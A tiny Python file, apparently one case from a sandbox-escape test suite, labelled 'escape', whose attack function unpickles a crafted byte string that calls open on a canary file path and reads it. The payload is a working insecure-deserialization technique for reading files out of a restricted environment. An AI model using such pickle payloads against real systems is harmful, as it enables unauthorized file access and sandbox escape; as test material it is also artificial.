# desc: a pickle that calls open
# class: escape
# wins: told
import pickle

def attack(state):
    return "L2:" + pickle.loads(b"cio\nopen\n(V@CANARY@\ntR.").read()
